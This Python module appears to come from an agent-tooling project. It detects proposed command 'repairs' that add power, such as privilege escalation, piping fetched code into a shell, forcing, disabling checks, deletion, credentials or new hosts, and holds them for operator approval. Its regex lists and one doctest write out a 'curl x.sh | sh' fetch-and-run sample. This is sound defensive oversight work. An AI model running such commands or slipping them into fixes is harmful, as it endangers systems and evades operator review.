"""Recognise changes that add power: an operator must accept those before anybody is told.

Whoever can make an agent fail twice could otherwise teach every other agent of the project to run
as root, to skip the checks, or to fetch from another host.
"""

import json
import re
from collections.abc import Iterator, Mapping
from typing import Any

from seasoned.changes.repair import Repair

# What adds power, in the words in which the operator is told.
_POWERS = (
    ("runs as another user", re.compile(r"(?<![\w-])(?:sudo|doas|su|runas|pkexec)(?![\w-])")),
    (
        "pipes into an interpreter",
        re.compile(r"\|\s*(?:ba|z|da|k|fi)?sh\b|\|\s*(?:python|perl|ruby|node|iex)\w*|\beval\b"),
    ),
    ("runs code that it fetches", re.compile(r"(?:curl|wget|iwr|irm)\b[^&;]*(?:\||-o-|\bsh\b)")),
    (
        "forces it",
        re.compile(
            r"--(?:force|hard|allow-root|overwrite|yes-i-\S+|assume-yes|skip-confirm\S*)\b(?!-with)"
            r"|(?<![\w-])-(?:f|rf|fr|ff)\b|\bforce=(?:true|1|yes)"
        ),
    ),
    (
        "switches a check off",
        re.compile(
            r"--no-(?:verify|check|gpg|sandbox|ssl|tls|auth|lock|hooks|validate)\S*|--(?:insecure|"
            r"privileged|skip|disable|ignore|trusted|allow|dangerous|bypass|unsafe)\S*"
            r"|(?<![\w-])-k\b|verify\W{0,3}(?:false|0|none|no)\b|strict\S*=(?:no|false|0)\b"
            r"|\b(?:skip|disable|ignore|bypass)_\w+\W{0,3}(?:true|1|yes)\b|sslverify=\S+",
            re.IGNORECASE,
        ),
    ),
    (
        "widens permissions",
        re.compile(
            r"\bch(?:mod|own|grp)\b|require_escalated|danger\w*|bypass\w*|\b0?777\b"
            r"|with_escalated_permissions|\badmin(?:istrator)?\b|\broot\b",
            re.IGNORECASE,
        ),
    ),
    (
        "deletes",
        re.compile(r"(?<![\w-])(?:rm|del|rmdir|shred|drop|truncate|mkfs|dd)(?![\w-])", re.I),
    ),
    (
        "passes credentials",
        re.compile(
            r"\b(?:password|passwd|token|secret|api_?key|credential|authorization)\w*", re.I
        ),
    ),
)
_HOST = re.compile(
    r"\b\w+://([^\s/'\"`@]+@)?([\w.-]+)|\b((?:\d{1,3}\.){3}\d{1,3})\b|[\w.-]+@([\w-]+\.[\w.-]+)"
)


def power_of(repair: Repair) -> str:
    """Say what power a repair adds; "" if none.

    >>> from seasoned.changes.repair import Edit
    >>> power_of(Repair((Edit(("command",), "swapped", {"front": "sudo "}),)))
    'runs as another user'
    >>> power_of(Repair((Edit(("command",), "swapped", {"old": "docker", "new": "podman"}),)))
    ''
    """
    return added_power("\n".join(_put(repair)), "\n".join(_gone(repair)))


def power_between(before: Mapping[str, Any], after: Mapping[str, Any]) -> str:
    """Say what power one call has that another had not; "" if none.

    >>> power_between({"command": "make"}, {"command": "curl x.sh | sh && make"})
    'pipes into an interpreter'
    """
    changed = [name for name in after if before.get(name) != after[name]]
    put = (f"{name}={_plain(after[name])}" for name in changed)
    gone = (f"{name}={_plain(before.get(name))}" for name in changed)
    return added_power("\n".join(put), "\n".join(gone))


def added_power(put: str, gone: str) -> str:
    """Say what power the words that were put add to those that were there."""
    for name, expression in _POWERS:
        if expression.search(put) and not expression.search(gone):
            return name
    known = _hosts(gone)
    strange = [host for host in _hosts(put) if host not in known]
    return f"uses another host, {strange[0]}" if strange else ""


def _hosts(text: str) -> list[str]:
    return [next(filter(None, match.groups()[1:])) for match in _HOST.finditer(text)]


def _put(repair: Repair) -> Iterator[str]:
    for edit in repair.edits:
        detail = edit.detail
        if edit.kind == "swapped":
            yield from (str(detail.get(name, "")) for name in ("front", "new", "prefix", "suffix"))
        elif edit.kind == "affixed":
            yield detail.get("front") or detail.get("behind", "")
        elif edit.kind == "renamed":
            yield str(detail["to"])
        elif edit.kind == "rewritten":
            yield from (_constants(hunk["plan"]) for hunk in detail["programs"][0]["hunks"])
        elif edit.kind in ("added", "replaced"):
            yield f"{edit.path[-1]}={_told(detail.get('value'))}"
    for step in repair.steps:
        yield " ".join(_told(value) for value in step.params.values())


def _gone(repair: Repair) -> Iterator[str]:
    for edit in repair.edits:
        yield from (str(edit.detail[name]) for name in ("old", "drop") if edit.detail.get(name))


def _told(value: Any) -> str:
    if not value:
        return ""
    if "plan" in value:
        return _constants(value["plan"])
    return _plain(value.get("is", ""))


def _plain(value: Any) -> str:
    return value if isinstance(value, str) else json.dumps(value)


def _constants(plan: Any) -> str:
    """Join the constant words of a plan; values from the error are judged when they are told."""
    return " ".join(
        str(atom[1]) for _, choices in plan[0] for atom in choices[0] if atom[0] == "is"
    )
